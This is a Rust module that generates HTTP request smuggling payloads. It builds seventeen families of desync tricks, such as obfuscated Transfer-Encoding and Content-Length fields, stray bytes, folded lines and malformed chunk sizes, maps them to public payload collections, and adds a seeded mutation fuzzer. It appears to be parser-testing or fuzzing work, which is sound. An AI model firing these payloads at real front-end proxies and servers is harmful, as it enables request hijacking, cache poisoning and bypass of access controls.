//! The families of smuggling payloads that are known, made anew: what public collections change, where, and to what.
//!
//! A payload hides a field that frames a body, or a chunk's end, from one of two readers, and puts a request where only the other
//! one sees a body. [`FAMILIES`] are the ways to hide; each is tried with the bodies that could profit. [`COVERED`] says
//! which of them each collection consists of.

mod fields;
mod messages;

use membership_types::Rng;

use crate::payloads::{LAST, SMUGGLED, draw};
use fields::{
    between_lines, codings, expectations, folds, hops, lengths, names, single_bytes, twice, two_bytes,
};
use messages::{early_ends, line_ends, methods, protocols, request_lines, sizes};

/// A way to make two readers disagree.
#[derive(Clone, Copy, Debug)]
pub struct Family {
    /// What it is called in [`COVERED`].
    pub name: &'static str,
    /// All of its streams.
    pub streams: fn() -> Vec<Vec<u8>>,
}

/// All of them.
pub const FAMILIES: [Family; 17] = [
    Family { name: "byte beside a name or a value", streams: single_bytes },
    Family { name: "byte in two places", streams: two_bytes },
    Family { name: "byte between two lines", streams: between_lines },
    Family { name: "misspelt name", streams: names },
    Family { name: "folded line", streams: folds },
    Family { name: "coding that is nearly chunked", streams: codings },
    Family { name: "length that is nearly a number", streams: lengths },
    Family { name: "field twice", streams: twice },
    Family { name: "field of one hop", streams: hops },
    Family { name: "expectation", streams: expectations },
    Family { name: "method or version without a body", streams: methods },
    Family { name: "early end of a head", streams: early_ends },
    Family { name: "chunk's size", streams: sizes },
    Family { name: "chunk's line ends", streams: line_ends },
    Family { name: "request line", streams: request_lines },
    Family { name: "other protocol", streams: protocols },
    Family { name: "drawn", streams: drawn },
];

/// What public collections consist of, and the families that have it.
pub const COVERED: [(&str, &str, &[&str]); 30] = [
    (
        "smuggler, default",
        "13 bytes around name, colon and value, and next to a junk field",
        &["byte beside a name or a value", "byte between two lines"],
    ),
    (
        "smuggler, exhaustive",
        "the same with every control byte and every byte above 126; misspelt names, codings in quotes, cut short, in lists, twice",
        &[
            "byte beside a name or a value",
            "misspelt name",
            "coding that is nearly chunked",
            "field twice",
            "folded line",
        ],
    ),
    ("smuggler, doubles", "the same byte in two of four places", &["byte in two places"]),
    (
        "http-request-smuggler, shared",
        "names joined by _ or a space, other letters for one, percent and MIME encodings",
        &["misspelt name", "coding that is nearly chunked"],
    ),
    (
        "http-request-smuggler, shared",
        "white space, NUL, DEL, no-break space and soft hyphen around names and values",
        &["byte beside a name or a value", "misspelt name"],
    ),
    ("http-request-smuggler, shared", "named by Connection", &["field of one hop"]),
    (
        "http-request-smuggler, shared",
        "identity and chunked in lists and in two fields",
        &["coding that is nearly chunked", "field twice"],
    ),
    (
        "http-request-smuggler, shared",
        "GET, HEAD, OPTIONS, ranges, methods overridden by fields",
        &["method or version without a body"],
    ),
    (
        "http-request-smuggler, HTTP/1",
        "wrapped values and names, lines ended by CR or LF alone, a body within a field",
        &["folded line", "byte between two lines", "early end of a head"],
    ),
    (
        "http-request-smuggler, HTTP/1",
        "case, HTTP/1.0, a field behind the first line",
        &["misspelt name", "method or version without a body", "folded line"],
    ),
    (
        "http-request-smuggler, lengths",
        "signs, zeros, exponents, fractions, lists; a malformed field before",
        &["length that is nearly a number", "early end of a head"],
    ),
    ("http-request-smuggler, lengths", "Expect, plain and malformed", &["expectation"]),
    (
        "http-request-smuggler, CL.0 and 0.CL",
        "a length that only one of the two sees, under each way to hide it",
        &["byte beside a name or a value", "length that is nearly a number", "expectation"],
    ),
    (
        "http-request-smuggler, hidden pairs",
        "space, tab, wrap, padding, hop, twice, underscore",
        &["byte beside a name or a value", "folded line", "field of one hop", "field twice", "misspelt name"],
    ),
    (
        "http-request-smuggler, chunk sizes",
        "LF, CR, CR with a byte, two CRs in extensions and behind data; one or two bytes, or none, for the end of data",
        &["chunk's line ends"],
    ),
    (
        "http-request-smuggler, tunnels",
        "HEAD with a body that holds a request",
        &["method or version without a body"],
    ),
    (
        "http-request-smuggler, HTTP/2",
        "fields hidden in HTTP/2: not served, and refused",
        &["other protocol"],
    ),
    (
        "HTTP Garden, servers",
        "numbers read as their longest prefix, as other languages read them, or with an overflow, in lengths, sizes and versions",
        &["length that is nearly a number", "chunk's size", "request line"],
    ),
    (
        "HTTP Garden, servers",
        "NUL, CR and LF in values; bytes above 127 stripped; white space before and behind names",
        &["byte beside a name or a value", "byte between two lines"],
    ),
    (
        "HTTP Garden, servers",
        "empty names, lines without a colon, empty lengths and sizes",
        &["misspelt name", "length that is nearly a number", "chunk's size", "early end of a head"],
    ),
    (
        "HTTP Garden, servers",
        "a head that ends with CR and any byte; a chunk line, or a body, that does",
        &["early end of a head", "chunk's line ends"],
    ),
    (
        "HTTP Garden, servers",
        "chunked twice, in a list, with a comma in front; an unknown coding",
        &["field twice", "coding that is nearly chunked"],
    ),
    ("HTTP Garden, servers", "names continued on the next line", &["folded line"]),
    ("HTTP Garden, servers", "methods, targets and versions that are none", &["request line"]),
    (
        "HTTP Garden, servers",
        "malformed chunks, and a request behind them; requests behind a length of nothing",
        &["chunk's size", "length that is nearly a number"],
    ),
    (
        "HTTP Garden, transducers",
        "what these pass on: both framings, two lengths, sizes with signs or white space, an extra line before the last chunk",
        &["field twice", "chunk's size", "chunk's line ends"],
    ),
    (
        "HTTP Garden, seeds and mutations",
        "bytes taken out, put in, changed; fields, methods and requests exchanged, doubled, cut",
        &["drawn"],
    ),
    (
        "llhttp, requests",
        "lenient lines, CR, LF, obs-fold, lengths, codings, versions, methods",
        &[
            "byte between two lines",
            "folded line",
            "length that is nearly a number",
            "coding that is nearly chunked",
            "request line",
            "chunk's line ends",
        ],
    ),
    (
        "h1spec",
        "versions, targets, fields and lengths that are malformed, fragments",
        &["request line", "byte beside a name or a value", "length that is nearly a number"],
    ),
    ("RFC 9113, 3.4; RFC 7540, 3.2", "the preface of HTTP/2, and h2c", &["other protocol"]),
];

/// Bytes that some reader strips, skips, or takes for an end.
fn odd_bytes() -> impl Iterator<Item = u8> + Clone {
    (0..=0x20).chain(0x7f..=0xff)
}

/// The field that is hidden.
#[derive(Clone, Copy, PartialEq)]
enum Hidden {
    Coding,
    Length,
}

const BOTH: [Hidden; 2] = [Hidden::Coding, Hidden::Length];

impl Hidden {
    const fn name(self) -> &'static [u8] {
        match self {
            Self::Coding => b"Transfer-Encoding",
            Self::Length => b"Content-Length",
        }
    }
}

/// The value stands for itself, so that lines can be made before it is known how long a body is.
const VALUE: &[u8] = b"{v}";

fn put(lines: &[u8], value: &[u8]) -> Vec<u8> {
    let mut out = lines.to_vec();
    while let Some(at) = out.windows(VALUE.len()).position(|part| part == VALUE) {
        out.splice(at..at + VALUE.len(), value.iter().copied());
    }
    out
}

fn request(line: &str, fields: &[u8], body: &[u8]) -> Vec<u8> {
    let head = format!("{line}\r\nHost: h\r\nX-Key: k\r\n");
    [head.as_bytes(), fields, b"\r\n\r\n", body, LAST.as_bytes()].concat()
}

const POST: &str = "POST /x HTTP/1.1";

/// Puts lines that hide a field into a request whose bodies end in two places, by what is seen of them. `{v}` in the lines is the
/// field's value.
fn hide(hidden: Hidden, lines: &[u8]) -> Vec<Vec<u8>> {
    let smuggled = SMUGGLED.as_bytes();
    let long = format!("0\r\n\r\n{SMUGGLED}");
    let chunk = format!("{:x}\r\n{SMUGGLED}\r\n0\r\n\r\n", SMUGGLED.len());
    match hidden {
        // The length goes past the last chunk, or ends within the first; or there is only the coding.
        Hidden::Coding => {
            let lines = put(lines, b"chunked");
            let with = |length: usize| [format!("Content-Length: {length}\r\n").as_bytes(), &lines].concat();
            let first = chunk.find('\n').map_or(0, |at| at + 1);
            vec![
                request(POST, &with(long.len()), long.as_bytes()),
                request(POST, &with(first), chunk.as_bytes()),
                request("GET /x HTTP/1.1", &lines, chunk.as_bytes()),
            ]
        }
        // Only one of the two knows that there is a body; or each has a length of its own.
        Hidden::Length => {
            let length = |len: usize| put(lines, len.to_string().as_bytes());
            let none = [b"Content-Length: 0\r\n", &length(smuggled.len())[..]].concat();
            vec![
                request(POST, &length(smuggled.len()), smuggled),
                request("GET /x HTTP/1.1", &length(smuggled.len()), smuggled),
                request(POST, &none, smuggled),
            ]
        }
    }
}

/// The same for several kinds of lines, each of which names the field `{n}`.
fn hide_all(lines: impl Iterator<Item = Vec<u8>> + Clone) -> Vec<Vec<u8>> {
    let named = |hidden: Hidden, line: &[u8]| {
        let mut out = line.to_vec();
        while let Some(at) = out.windows(3).position(|part| part == b"{n}") {
            out.splice(at..at + 3, hidden.name().iter().copied());
        }
        hide(hidden, &out)
    };
    BOTH.iter().flat_map(|hidden| lines.clone().flat_map(move |line| named(*hidden, &line))).collect()
}

fn texts<'a>(lines: &'a [&'a str]) -> impl Iterator<Item = Vec<u8>> + Clone + 'a {
    lines.iter().map(|line| line.as_bytes().to_vec())
}

/// Puts a byte at each `?` of these lines, for every odd byte.
fn with_bytes<'a>(lines: &'a [&'a str]) -> impl Iterator<Item = Vec<u8>> + Clone + 'a {
    lines.iter().flat_map(|line| {
        odd_bytes().map(|odd| line.bytes().map(|byte| if byte == b'?' { odd } else { byte }).collect())
    })
}

/// Some of the streams above with bytes taken out, put in and changed, cut and put together.
fn drawn() -> Vec<Vec<u8>> {
    let mut rng = Rng::seeded(23);
    let seeds: Vec<Vec<u8>> = [codings(), lengths(), twice(), sizes(), line_ends(), methods()].concat();
    let mut all: Vec<Vec<u8>> = (0..500).map(|_| draw(&mut rng)).collect();
    for _ in 0..1500 {
        let pick = |rng: &mut Rng| rng.pick(&seeds).cloned().unwrap_or_default();
        let mut stream = pick(&mut rng);
        for _ in 0..rng.between(1, 3) {
            let at = rng.below(stream.len() as u64) as usize;
            match rng.below(7) {
                0 => drop(stream.remove(at)),
                1 => stream[at] = rng.next_u64() as u8,
                2 => stream.insert(at, rng.next_u64() as u8),
                3 => drop(
                    stream.splice(
                        at..at,
                        rng.pick(&[&b"\r\n"[..], b"\r", b"\n", b"\0", b":", b"\t", b" "])
                            .copied()
                            .unwrap_or_default()
                            .iter()
                            .copied(),
                    ),
                ),
                4 => stream.extend(pick(&mut rng)),
                // Another field where a line ends.
                5 => {
                    let line =
                        stream[at..].windows(2).position(|end| end == b"\r\n").map_or(at, |end| at + end + 2);
                    let fields: [&[u8]; 5] = [
                        b"Content-Length: 0\r\n",
                        b"Transfer-Encoding: chunked\r\n",
                        b"Transfer-Encoding: identity\r\n",
                        b": \r\n",
                        b"Connection: close\r\n",
                    ];
                    let field = rng.pick(&fields).copied().unwrap_or_default();
                    drop(stream.splice(line..line, field.iter().copied()));
                }
                _ => {
                    let mut other = pick(&mut rng);
                    let from = rng.below(other.len() as u64) as usize;
                    stream.truncate(at.max(1));
                    stream.append(&mut other.split_off(from));
                }
            }
        }
        all.push(stream);
    }
    all
}
